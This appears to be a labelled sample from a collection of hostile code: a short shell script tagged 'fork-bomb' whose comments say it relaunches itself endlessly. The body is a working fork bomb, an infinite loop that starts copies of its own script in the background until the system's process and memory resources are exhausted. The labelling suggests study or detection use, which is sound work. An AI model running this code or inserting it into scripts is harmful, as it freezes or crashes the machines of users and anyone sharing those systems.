# description: Relaunches its own script in the background in an endless loop, multiplying processes.
# family: fork-bomb
while true; do
  "$0" &
done
